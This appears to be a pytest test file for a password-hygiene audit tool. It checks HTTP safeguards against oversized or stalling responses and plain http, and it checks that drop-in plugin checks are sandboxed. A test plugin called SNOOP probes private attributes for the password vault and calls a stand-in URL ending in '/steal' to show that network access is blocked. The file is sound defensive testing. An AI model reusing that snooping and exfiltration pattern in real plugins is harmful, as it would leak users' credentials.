"""Servers that lie, stall or flood; plain http; and drop-in checks that overreach."""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from typer.testing import Result

import hygiene_audit.safety.http as http
from hygiene_audit.cli.commands import app
from hygiene_audit.core.errors import NetworkError
from hygiene_audit.safety.http import make_client

from .cli_helpers import runner
from .plugins import write_check
from .vaults import write_vault


def test_an_oversized_answer_is_refused_without_reading_it_all() -> None:
    sent = []

    def endless() -> Iterator[bytes]:
        while True:
            sent.append(1)
            yield b"x" * (1024 * 1024)

    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, stream=httpx.ByteStream(b"") if False else _Gen(endless()))

    client = make_client(
        ["api.pwnedpasswords.com"], offline=False, timeout=5, transport=httpx.MockTransport(handler)
    )
    with pytest.raises(NetworkError, match="larger than 64 MB"):
        client.get("https://api.pwnedpasswords.com/range/5BAA6")
    assert len(sent) <= 66


class _Gen(httpx.SyncByteStream):
    def __init__(self, chunks: Iterator[bytes]) -> None:
        self._chunks = chunks

    def __iter__(self) -> Iterator[bytes]:
        yield from self._chunks


def test_a_declared_huge_length_is_refused_at_once() -> None:
    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(
            200, headers={"Content-Length": str(10 * 1024**3)}, stream=_Gen(iter([b"{}"]))
        )

    client = make_client(
        ["en.wikipedia.org"], offline=False, timeout=5, transport=httpx.MockTransport(handler)
    )
    with pytest.raises(NetworkError, match="larger than"):
        client.get("https://en.wikipedia.org/w/api.php")


@pytest.fixture
def dripping_server() -> Iterator[str]:
    """127.0.0.1: answers headers at once, then one body byte every 0.3 s, forever."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    stop = threading.Event()

    def serve() -> None:
        listener.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _addr = listener.accept()
            except TimeoutError:
                continue
            conn.recv(65536)
            conn.sendall(
                b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                b"Content-Length: 100000\r\n\r\n"
            )
            try:
                for _ in range(200):
                    if stop.is_set():
                        break
                    conn.sendall(b" ")
                    time.sleep(0.3)
            except OSError:
                pass
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{listener.getsockname()[1]}"
    stop.set()
    thread.join(5)
    listener.close()


def test_a_dripping_server_hits_the_total_deadline_not_the_per_read_timeout(
    dripping_server: str,
) -> None:
    client = make_client(["127.0.0.1"], offline=False, timeout=1.0)
    started = time.monotonic()
    with pytest.raises(NetworkError, match="no complete answer within 3 s"):
        client.get(dripping_server + "/w/api.php")
    assert time.monotonic() - started < 6


def test_an_empty_or_unpadded_range_answer_is_never_not_breached(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for body in ("", "0018A45C4D1DEF81644B54AB7F969B88D65:3\r\n"):
        monkeypatch.setattr(
            http,
            "default_transport",
            lambda body=body: httpx.MockTransport(lambda request: httpx.Response(200, text=body)),
        )
        result = runner.invoke(
            app,
            [
                "run",
                "-f",
                "json",
                "--only",
                "HA-B",
                "--passwords",
                str(write_vault(tmp_path, "chrome")),
            ],
        )
        row = {c["id"]: c for c in json.loads(result.stdout)["checks"]}["HA-B"]
        assert row["status"] == "error", row
        pwned = runner.invoke(app, ["pwned"], input="Summer2023!\n")
        assert pwned.exit_code == 2, pwned.output
        assert "not found" not in pwned.stdout


@pytest.mark.parametrize("option", ["--wiki", "--hibp-api"])
def test_plain_http_is_refused_unless_loopback_or_explicit(
    option: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = "http://en.wikipedia.org/w/api.php"
    if option == "--wiki":
        refused = runner.invoke(app, ["run", "--only", "HA-U", "--wiki", url, "-u", "Ana"])
    else:
        monkeypatch.setenv("HYGIENE_AUDIT_HIBP_API", "http://api.pwnedpasswords.com")
        refused = runner.invoke(app, ["run", "--only", "HA-U", "-u", "Ana"])
    assert refused.exit_code == 2
    assert "plain http" in refused.stderr
    if option == "--wiki":
        allowed = runner.invoke(
            app, ["run", "--only", "HA-U", "--wiki", url, "-u", "Ana", "--allow-http", "-f", "json"]
        )
        assert allowed.exit_code == 0, allowed.output
        local = runner.invoke(
            app,
            [
                "run",
                "--only",
                "HA-U",
                "-u",
                "Ana",
                "-f",
                "json",
                "--wiki",
                "http://127.0.0.1:8080/w/api.php",
            ],
        )
        assert local.exit_code == 0, local.output


SNOOP = """
view = ctx.inputs
reachable = [name for name in ("_inputs", "_values") if hasattr(view, name)]
found = []
held = getattr(view, "_values", None)
blank = type(held)() if held is not None else None
for name in getattr(held, "__dataclass_fields__", {}):
    if name not in ("profile", "_vault") and getattr(held, name) != getattr(blank, name):
        found.append(name)
try:
    view.vault
except Exception as exc:
    found.append(type(exc).__name__)
try:
    urllib.request.urlopen("http://93.184.216.34/steal", timeout=2)
except Exception:
    pass
return CheckResult.of([self.finding("T-SNOOP001", evidence=repr((reachable, found)))])
"""


def snoop(directory: Path, body: str = SNOOP) -> Path:
    return write_check(
        directory,
        "T-SNOOP",
        body,
        title="Declares only the profile",
        inputs="Input.PROFILE",
        imports="import urllib.request",
    )


def run_beside_the_password_check(plugins: Path, tmp_path: Path) -> Result:
    """Offline, the drop-in check runs with HA-P, which reads a real vault: one that leaked
    to a check that did not declare it would be there to find."""
    vault = write_vault(tmp_path, "chrome")
    return runner.invoke(
        app,
        [
            *("run", "--offline", "-f", "json", "--checks-dir", str(plugins)),
            *("--only", "T-SNOOP", "--only", "HA-P", "--passwords", str(vault)),
        ],
    )


def test_a_drop_in_check_gets_only_what_it_declared_and_no_network_offline(
    tmp_path: Path,
) -> None:
    plugins = snoop(tmp_path / "plugins")
    result = run_beside_the_password_check(plugins, tmp_path)
    report = json.loads(result.stdout)
    row = {c["id"]: c for c in report["checks"]}["T-SNOOP"]
    assert row["status"] == "error"
    assert "93.184.216.34" in row["reason"] and "--offline" in row["reason"]
    assert any("T-SNOOP" in n and "blocked" in n for n in report["notes"])
    assert "warning: loaded drop-in check T-SNOOP" in result.stderr


def test_what_a_profile_only_check_can_reach(tmp_path: Path) -> None:
    plugins = snoop(
        tmp_path / "plugins",
        SNOOP.replace(
            '    urllib.request.urlopen("http://93.184.216.34/steal", timeout=2)', "    pass"
        ),
    )
    result = run_beside_the_password_check(plugins, tmp_path)
    findings = json.loads(result.stdout)["findings"]
    finding = next(f for f in findings if f["id"] == "T-SNOOP001")
    reachable, found = eval(finding["evidence"])
    assert "_inputs" not in reachable
    assert found == ["UndeclaredError"]
